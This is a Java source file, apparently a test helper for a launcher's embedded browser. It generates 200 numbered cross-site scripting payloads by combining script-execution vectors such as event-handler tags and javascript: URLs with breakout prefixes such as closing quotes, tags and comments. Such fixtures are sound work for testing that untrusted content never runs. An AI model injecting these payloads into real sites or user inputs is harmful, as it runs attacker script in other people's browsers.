package io.heliograph.launcher.browser;

import java.util.List;
import java.util.stream.Stream;

/** Two hundred texts that run as a script wherever somebody takes them for HTML, a script, or an address. */
final class ScriptPayloads {
    private static final List<String> DEEDS = List.of(
            "<script>RUN</script>",
            "<img src=x onerror=RUN>",
            "<svg onload=RUN>",
            "<svg><script>RUN</script></svg>",
            "<body onload=RUN>",
            "<iframe src=\"javascript:parent.RUN\">",
            "<details open ontoggle=RUN>",
            "<video><source onerror=RUN></video>",
            "<input autofocus onfocus=RUN>",
            "<style onload=RUN></style>",
            "<object data=\"javascript:RUN\">",
            "<a href=\"javascript:RUN\" autofocus onfocus=RUN>x</a>",
            "<math><mtext><img src=x onerror=RUN>",
            "<marquee onstart=RUN>",
            "<form><button formaction=\"javascript:RUN\">x",
            "<ScRiPt >RUN</sCrIpT>",
            "<template><script>RUN</script></template><img src onerror=RUN>",
            "javascript:RUN",
            "';RUN;//",
            "\";RUN;//");

    /** What a text may have to get out of first. */
    private static final List<String> WAYS_OUT = List.of(
            "", "\">", "'>", "</script>", "</title>", "</textarea>", "-->", "]]>", "\\\"}]}", "{{$eval('RUN')}}");

    private ScriptPayloads() {}

    /** Each tells its number when it runs. */
    static List<String> all() {
        List<String> shapes = WAYS_OUT.stream()
                .flatMap(out -> DEEDS.stream().map(deed -> out + deed))
                .toList();
        return Stream.iterate(0, i -> i < shapes.size(), i -> i + 1)
                .map(i -> shapes.get(i).replace("RUN", "executed('" + i + "')"))
                .toList();
    }
}
